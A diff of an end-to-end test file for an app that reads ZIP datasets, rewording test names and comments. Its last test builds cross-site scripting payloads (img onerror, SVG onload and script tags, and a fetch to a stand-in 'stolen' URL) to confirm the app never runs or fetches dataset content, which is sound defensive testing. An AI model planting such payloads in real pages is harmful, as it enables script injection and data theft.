@@ -1,4 +1,4 @@
-// Archives: made by an ordinary program, and made to do harm.
+// ZIP archives: from ordinary programs, and hostile ones.
 
 import { expect, test } from "./support/app.ts";
 import { pack, PDF, PNG, read } from "./support/files.ts";
@@ -19,7 +19,7 @@ const line = (...paths: string[]): string =>
     usage_output: null,
   });
 
-test("an archive from an ordinary program: top folder, junk, attachments, a missing and an unused file", async ({
+test("an archive with a top folder, system files, attachments, a missing and an unused file", async ({
   app,
   page,
   folder,
@@ -53,7 +53,7 @@ test("an archive from an ordinary program: top folder, junk, attachments, a miss
   expect(errors[0]).toMatch(/^line 3: input\.messages\.0\.content\.1\.path: .*attachments\/report\.pdf/);
   expect(errors[1]).toMatch(/^line 4: input\.messages\.0\.content\.1\.path: .*attachments\/missing\.pdf/);
   expect(lines.filter((text) => /unused\.txt/.test(text))).toHaveLength(1);
-  expect(lines.filter((text) => /MACOSX|\._/.test(text)), "junk is not worth a word").toEqual([]);
+  expect(lines.filter((text) => /MACOSX|\._/.test(text)), "system files are not reported").toEqual([]);
 
   const attachments = page.getByTestId("attachment");
   await app.showLines();
@@ -69,7 +69,7 @@ test("an archive from an ordinary program: top folder, junk, attachments, a miss
     .poll(() => attachments.nth(1).locator("img").evaluate((image: HTMLImageElement) => image.naturalWidth))
     .toBe(1);
 
-  // The name in the record and the one in the archive are written in two ways, and are the same.
+  // The names in the record and in the archive have different Unicode normalization forms.
   await app.line(2).click();
   await expect(attachments).toHaveCount(1);
   await expect(attachments).toHaveAttribute("data-state", "text");
@@ -85,7 +85,7 @@ test("an archive from an ordinary program: top folder, junk, attachments, a miss
   await expect(attachments).toHaveAttribute("data-state", "missing");
 });
 
-test("an archive without a dataset says what it holds", async ({ app, folder }) => {
+test("the error of an archive without a dataset lists its files", async ({ app, folder }) => {
   const { path } = await pack(folder, "wrong.zip", { "data.csv": "a,b\n", "notes/readme.md": "# Notes" });
   await app.open();
   await app.choose(path);
@@ -94,7 +94,7 @@ test("an archive without a dataset says what it holds", async ({ app, folder }) 
   expect(lines.join("\n")).toMatch(/data\.csv/);
 });
 
-test("an archive that was cut off is an error", async ({ app, folder }) => {
+test("a truncated archive is an error", async ({ app, folder }) => {
   const { path } = await pack(folder, "whole.zip", { "samples.jsonl": line(), "attachments/a.txt": "a".repeat(5000) });
   const whole = await read(path);
   await app.open();
@@ -104,7 +104,7 @@ test("an archive that was cut off is an error", async ({ app, folder }) => {
 
 const SCRIPT = "globalThis.top.pwned = 1; alert(1); fetch('http://192.0.2.1/stolen')";
 
-test("nothing of what a dataset holds is executed or fetched", async ({ app, page, folder }) => {
+test("content of a dataset is never executed or fetched", async ({ app, page, folder }) => {
   const image = `<img src="http://192.0.2.1/x.png" onerror="${SCRIPT}">`;
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script><image href="http://192.0.2.1/x.png"/></svg>`;
   const html = `<!doctype html><script>${SCRIPT}</script><link rel="stylesheet" href="http://192.0.2.1/x.css">${image}`;
@@ -157,5 +157,5 @@ test("nothing of what a dataset holds is executed or fetched", async ({ app, pag
   for (const finding of await app.findings.all()) await finding.click();
   await app.copiedReport();
   expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
-  // That nothing was asked for, said, opened or blocked is what `app` looks after.
+  // The fixture `app` checks that there was no request, dialog, window or policy violation.
 });
